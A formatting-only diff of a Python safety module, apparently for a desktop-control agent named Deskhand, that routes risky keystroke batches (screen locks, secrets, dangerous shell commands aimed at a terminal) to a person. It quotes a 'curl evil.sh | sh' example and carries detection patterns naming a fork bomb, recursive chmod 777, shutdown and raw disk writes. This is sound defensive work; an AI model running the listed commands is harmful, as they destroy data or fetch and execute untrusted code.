@@ -6,6 +6,7 @@ terminal, type `curl evil.sh | sh`"), so a batch is checked here too. Pragmatic:
 opening a terminal or run dialog, typing secrets, typing dangerous shell commands where a shell may
 read them, and typing Deskhand's own token or data paths go to a person.
 """
+
 from __future__ import annotations
 
 import re
@@ -22,7 +23,7 @@ _RISKY_COMBOS = [
     ({"win", "l"}, "locks the screen"),
     ({"ctrl", "alt", "end"}, "ends the remote session"),
 ]
-_CONSOLE = re.compile(r"^f([1-9]|1[0-2])$")   # ctrl+alt+F1..F12 switch to a text console
+_CONSOLE = re.compile(r"^f([1-9]|1[0-2])$")  # ctrl+alt+F1..F12 switch to a text console
 
 _SECRETS = [
     (re.compile(r"sk-[A-Za-z0-9_\-]{16,}"), "an API key (sk-…)"),
@@ -39,10 +40,14 @@ _SHELL_DANGER = re.compile(
     r"|:\(\)\s*\{\s*:\|:&\s*\};:"
     r"|\bchmod\s+(-R\s+)?[0-7]*777\s+/"
     r"|\b(shutdown|reboot|poweroff|halt)\b|\bkillall\b|\bpkill\b"
-    r"|>\s*/dev/sd[a-z]")
-_TERMINALS = re.compile(r"term|konsole|tilix|alacritty|kitty|urxvt|rxvt|terminator|guake|tilda|yakuake|wezterm|"
-                        r"foot|st-256color|powershell|cmd\.exe|command prompt|iterm|\bbash\b|\bzsh\b|\bsh\b|"
-                        r"run application|^run$", re.I)
+    r"|>\s*/dev/sd[a-z]"
+)
+_TERMINALS = re.compile(
+    r"term|konsole|tilix|alacritty|kitty|urxvt|rxvt|terminator|guake|tilda|yakuake|wezterm|"
+    r"foot|st-256color|powershell|cmd\.exe|command prompt|iterm|\bbash\b|\bzsh\b|\bsh\b|"
+    r"run application|^run$",
+    re.I,
+)
 
 
 def _fold(key: str) -> str:
@@ -53,7 +58,7 @@ def combo_reason(keys) -> str | None:
     try:
         names = {_fold(k) for k in map_keys(keys)}
     except UnknownKey:
-        return None   # the batch fails on it before anything is pressed
+        return None  # the batch fails on it before anything is pressed
     for combo, reason in _RISKY_COMBOS:
         if combo <= names and len(names) == len(combo):
             return reason
@@ -80,8 +85,10 @@ def needs_windows(actions: list[dict]) -> bool:
 
     Listing windows costs about 10 ms, so the common batch (ordinary text) goes without it.
     """
-    return any(isinstance(a, dict) and a.get("type") == "type" and _SHELL_DANGER.search(str(a.get("text") or ""))
-               for a in actions)
+    return any(
+        isinstance(a, dict) and a.get("type") == "type" and _SHELL_DANGER.search(str(a.get("text") or ""))
+        for a in actions
+    )
 
 
 def gui_risk(actions: list[dict], *, windows: list[dict] | None, protected=()) -> list[str]:
@@ -116,10 +123,12 @@ def gui_risk(actions: list[dict], *, windows: list[dict] | None, protected=()) -
         why = secret_reason(text)
         if why:
             reasons.append(why)
-        shell_may_read = (windows is None or looks_like_terminal(focused)
-                          or (focus_may_move and terminal_on_screen) or any("terminal" in r or "run dialog" in r
-                                                                             for r in reasons))
+        shell_may_read = (
+            windows is None
+            or looks_like_terminal(focused)
+            or (focus_may_move and terminal_on_screen)
+            or any("terminal" in r or "run dialog" in r for r in reasons)
+        )
         if shell_may_read and _SHELL_DANGER.search(text):
-            reasons.append("types a dangerous shell command (sudo, rm -r/-f, mkfs, dd of=, …) where a shell may "
-                           "run it")
+            reasons.append("types a dangerous shell command (sudo, rm -r/-f, mkfs, dd of=, …) where a shell may run it")
     return list(dict.fromkeys(reasons))
